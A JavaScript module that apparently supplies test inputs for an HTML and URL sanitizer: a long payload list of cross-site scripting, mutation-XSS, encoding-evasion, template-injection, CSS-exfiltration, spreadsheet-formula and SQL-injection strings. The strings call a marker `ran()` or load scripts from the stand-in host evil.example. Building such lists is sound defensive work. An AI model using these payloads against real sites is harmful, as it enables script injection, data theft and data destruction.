// Texts that run a script, or load something, where they are taken for markup, an address, a script or a style. Each calls
// `ran()` or asks evil.example for something.

const handlers = [
  ["img", "src=x onerror=ran()"], ["img", "src=x onerror=ran`1`"], ["image", "src=x onerror=ran()"], ["svg", "onload=ran()"],
  ["body", "onload=ran()"], ["body", "onpageshow=ran()"], ["iframe", "onload=ran()"], ["iframe", "src=javascript:top.ran()"],
  ["iframe", "srcdoc='<script>top.ran()</script>'"], ["object", "data=javascript:ran()"], ["object", "data='data:text/html,<script>top.ran()</script>'"],
  ["embed", "src=javascript:ran()"], ["video", "src=x onerror=ran()"], ["audio", "src=x onerror=ran()"], ["video", "poster=//evil.example/a"],
  ["source", "srcset=//evil.example/b"], ["input", "autofocus onfocus=ran()"], ["input", "type=image src=//evil.example/c onerror=ran()"],
  ["select", "autofocus onfocus=ran()"], ["textarea", "autofocus onfocus=ran()"], ["button", "autofocus onfocus=ran()"],
  ["details", "open ontoggle=ran()"], ["marquee", "onstart=ran()"], ["meter", "onmouseover=ran()"], ["a", "href=javascript:ran()"],
  ["a", "href='java\tscript:ran()'"], ["a", "href='&#106;avascript:ran()'"], ["a", "href=data:text/html,<script>ran()</script>"],
  ["a", "ping=//evil.example/d href=#"], ["form", "action=javascript:ran() oninput=ran()"], ["button", "formaction=javascript:ran()"],
  ["link", "rel=stylesheet href=//evil.example/e.css"], ["link", "rel=prefetch href=//evil.example/f"], ["link", "rel=modulepreload href=//evil.example/g.js"],
  ["link", "rel=dns-prefetch href=//evil.example"], ["meta", "http-equiv=refresh content='0;url=//evil.example/h'"],
  ["meta", "http-equiv=Content-Security-Policy content='default-src *'"], ["base", "href=//evil.example/"], ["script", "src=//evil.example/i.js"],
  ["script", "type=module src=//evil.example/j.js"], ["script", "type=importmap"], ["style", "onload=ran()"], ["math", "href=javascript:ran()"],
  ["div", "style=background:url(//evil.example/k)"], ["div", "style=width:expression(ran())"], ["div", "style='animation:x' onanimationstart=ran()"],
  ["div", "popover id=x onbeforetoggle=ran()"], ["div", "contenteditable autofocus onfocus=ran()"], ["div", "onpointerenter=ran()"], ["p", "slot=x onclick=ran()"],
  ["nut-graf", "onclick=ran() for=x"], ["x-y", "onclick=ran() tabindex=1 autofocus onfocus=ran()"], ["template", "shadowrootmode=open"], ["portal", "src=//evil.example/l"],
  ["frameset", "onload=ran()"], ["frame", "src=javascript:ran()"], ["table", "background=//evil.example/m"], ["track", "src=//evil.example/n"],
  ["bgsound", "src=//evil.example/o"], ["applet", "code=//evil.example/p"], ["keygen", "autofocus onfocus=ran()"], ["dialog", "open oncancel=ran()"],
];

/** Ways to write a tag. */
const tags = [
  ([name, attributes]) => `<${name} ${attributes}>`,
  ([name, attributes]) => `<${name.toUpperCase()}/${attributes.replace(/ (?=\w+=|\w+$)/g, "/")}//>`,
  ([name, attributes]) => `"'><${name} ${attributes}>x</${name}>`,
];

const own = [
  "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT >", "<script\n>ran()</script\n>", "<script/x>ran()</script>", "<<script>ran()//<</script>",
  "<scr<script>ipt>ran()</scr</script>ipt>", "<script>ran()", "<svg><script>ran()</script></svg>", "<svg><script href=//evil.example/q.js />",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><set onbegin=ran() attributeName=x>", "<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x'/>", "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
  "<svg><style><img src=x onerror=ran()></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=ran()>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran()&gt;\">", "<math><mi xlink:href=javascript:ran()>x</mi></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
  "<xmp><p title=\"</xmp><img src=x onerror=ran()>\">", "<noembed><img title=\"</noembed><img src=x onerror=ran()>\"></noembed>", "<iframe><img title=\"</iframe><img src=x onerror=ran()>\">",
  "<title><img title=\"</title><img src=x onerror=ran()>\">", "<textarea><img title=\"</textarea><img src=x onerror=ran()>\">", "<plaintext><img src=x onerror=ran()>",
  "<listing>&lt;img src=x onerror=ran()&gt;</listing>", "<select><template><script>ran()</script></template></select>", "<template><img src=x onerror=ran()></template>",
  "<template></template><img src=x onerror=ran()></template>", "<div><template shadowrootmode=open><img src=x onerror=ran()></template></div>",
  "<table><tr><td><script>ran()</script>", "<!--><img src=x onerror=ran()>-->", "<!-- --!><img src=x onerror=ran()>", "<![CDATA[><img src=x onerror=ran()>]]>",
  "<?xml-stylesheet href=\"//evil.example/r.xsl\"?><img src=x onerror=ran()>", "<!DOCTYPE x [<!ENTITY y \"<script>ran()</script>\">]>&y;", "</p><img src=x onerror=ran()><p>",
  "&lt;script&gt;ran()&lt;/script&gt;", "&amp;lt;img src=x onerror=ran()&amp;gt;", "&#60;img src=x onerror=ran()&#62;", "&#x3c;script&#x3e;ran()&#x3c;/script&#x3e;", "&lt;img src=x onerror=ran()>",
  "%3Cscript%3Eran()%3C/script%3E", "\\u003cscript\\u003eran()\\u003c/script\\u003e", "\\x3cscript\\x3eran()\\x3c/script\\x3e", "+ADw-script+AD4-ran()+ADw-/script+AD4-",
  "＜script＞ran()＜/script＞", "<scr\0ipt>ran()</scr\0ipt>", "<img src=x one\0rror=ran()>", "<img\u000csrc=x\u000conerror=ran()>", "<scr\u00adipt>ran()</scr\u00adipt>", "<\u200bscript>ran()</script>",
  "<img src=x onerror\u000b=ran()>", "<img src=\"x` `<script>ran()</script>\"` `>", "<img src='x'onerror='ran()'>", "<img/src/onerror=ran()>", "<img src onerror=ran(//>",
  "\" onmouseover=\"ran()", "' onfocus='ran()' autofocus='", "\" autofocus onfocus=\"ran()\" x=\"", "` onerror=ran() `", "\"><script>ran()</script>", "'><img src=x onerror=ran()>", "--><script>ran()</script>",
  "</textarea><script>ran()</script>", "</title><script>ran()</script>", "</style><script>ran()</script>", "</script><script>ran()</script>", "</nut-graf><script>ran()</script>", "</template><script>ran()</script>",
  "';ran();//", "\";ran();//", "`;ran();//", "${ran()}", "#{ran()}", "{{ran()}}", "{{constructor.constructor('ran()')()}}", "<%= ran() %>", "[[${ran()}]]", "{%raw%}{{ran()}}", "\u2028ran()\u2029", "*/ran()/*",
  "]]>;ran();//", "});ran();({", "\\\";ran();//", "0;ran()", "constructor.constructor('ran()')()", "import('//evil.example/s.js')", "eval('ran()')",
  "javascript:ran()", "JaVaScRiPt:ran()", "java\nscript:ran()", "\u0001javascript:ran()", " javascript:ran()", "javascript://evil.example/%0Aran()", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='ran()'>",
  "vbscript:ran()", "data:text/html,<script>ran()</script>", "data:text/javascript,ran()", "data:image/svg+xml,<svg onload=ran()>", "blob:ran()", "filesystem:ran()", "view-source:javascript:ran()", "//evil.example/t", "\\\\evil.example\\u",
  "https://evil.example/v", "https://good.example@evil.example/", "https://evil.example#@good.example", "https://evil.example\u2215good.example/", "https://\u202eelpmaxe.doog@evil.example/",
  "[x](javascript:ran())", "[x](data:text/html,<script>ran()</script>)", "![x](//evil.example/w)", "![x](x \"onerror=ran()\")", "<javascript:ran()>", "[x]: javascript:ran()", "[x](<javascript:ran()>)", "<https://evil.example/x\" onclick=ran()>",
  "`<img src=x onerror=ran()>`", "```\n<script>ran()</script>\n```", "x{{}}<script>ran()</script>", "@import url(//evil.example/y.css);", "}*{background:url(//evil.example/z)}", "a[href^=x]{background:url(//evil.example/1)}",
  "{\"__proto__\":{\"ran\":1}}", "__proto__", "constructor", "toString", "hasOwnProperty", "{\"toString\":\"ran\"}", "\u001b]8;;javascript:ran()\u0007x\u001b]8;;\u0007", "\u202e<tpircs>)(nar<tpircs/>", "=cmd|' /C ran'!A0", "'; DROP TABLE articles; --",
];

export const payloads = [...tags.flatMap((write) => handlers.map(write)), ...own];
